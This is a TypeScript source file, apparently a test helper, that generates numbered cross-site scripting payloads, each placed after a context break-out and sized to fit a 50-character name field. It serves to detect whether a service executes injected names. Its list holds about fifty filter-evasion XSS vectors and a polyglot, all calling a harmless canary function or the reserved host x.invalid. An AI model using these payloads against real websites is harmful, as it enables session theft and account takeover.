import type { Random } from './random.ts';

/** A host that nobody has: whoever asks for it obeyed a payload. */
export const CANARY_HOST = 'x.invalid';
/** The longest name that the contract and the service take. */
const LONGEST_NAME = 50;

export type Injection = {
  id: number;
  /** Which of the known shapes it has. */
  shape: number;
  /** Fits a name. */
  name: string;
  /** The same attack with more room, for fields that take it. */
  long: string;
};

/** Each tells its number to the topmost page, or asks the canary's host, when anything obeys it. */
const SHAPES: readonly ((call: string, id: number) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<img src onerror=${call}>`,
  (call) => `<img/src/onerror=${call}>`,
  (call) => `<IMG SRC=x OnErRoR="${call}">`,
  (call) => `<image src onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg/x=y onload=${call}>`,
  (call) => `<svg><script>${call}</script>`,
  (call) => `<svg><animate onbegin=${call} dur=1s>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<math><mtext><img src onerror=${call}>`,
  (call) => `<math><a href=javascript:${call}>x`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<iframe src=javascript:${call}>`,
  (call) => `<iframe onload=${call}>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>x`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<a href="java&#9;script:${call}">x</a>`,
  (call) => `<a href=&#106;avascript:${call}>x</a>`,
  (call) => `<form action=javascript:${call}><button>x`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<template><img src onerror=${call}>`,
  (call) => `<xmp><p id="</xmp><img src onerror=${call}>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `';${call}//`,
  (call) => `"-${call}-"`,
  (call) => `jaVasCript:/*'/*"/**/${call}//`,
  (call) => `[x](javascript:${call})`,
  (_call, id) => `<style>@import'//${CANARY_HOST}/${id}'</style>`,
  (_call, id) => `<p style=background:url(//${CANARY_HOST}/${id})>`,
  (_call, id) => `<link rel=stylesheet href=//${CANARY_HOST}/${id}>`,
  (_call, id) => `<img src=//${CANARY_HOST}/${id}>`,
  (_call, id) => `<base href=//${CANARY_HOST}/${id}>`,
  (_call, id) => `<form id=whittle><p id=call n=${id}>`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `\u202e<svg onload=${call}>`,
  (call) => `<svg\u2028onload=${call}>`,
  (call) => `+ADw-svg onload=${call}+AD4-`,
  (call) => `%3Csvg onload=${call}%3E`,
  (call) => `&lt;svg onload=${call}&gt;`,
];

/** What it breaks out of first: nothing, an attribute, or an element whose content is text. */
const CONTEXTS = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</p>',
  '</style>',
  '</title>',
  '</script>',
  '</textarea>',
  '</noscript>',
];

/** A payload that fits many places at once. */
const polyglot = (call: string): string =>
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`;

/** So many payloads, all of them different: each shape in turn, and each time in another context while there are any. */
export const injections = (random: Random, count: number): Injection[] => {
  const fitting = SHAPES.map((shape) =>
    random.shuffled(
      CONTEXTS.filter((context) => `${context}${shape('top.f(999)', 999)}`.length <= LONGEST_NAME),
    ),
  );
  return Array.from({ length: count }, (_, index) => {
    const id = 100 + index;
    const call = `top.f(${id})`;
    const at = index % SHAPES.length;
    const contexts = fitting[at] ?? [];
    const context = contexts[Math.floor(index / SHAPES.length) % contexts.length] ?? '';
    const name = `${context}${SHAPES[at]?.(call, id) ?? ''}`;
    if (name.length > LONGEST_NAME) throw new Error(`${name} does not fit a name`);
    return { id, shape: at, name, long: `${random.pick(CONTEXTS)}${name}${polyglot(call)}` };
  });
};
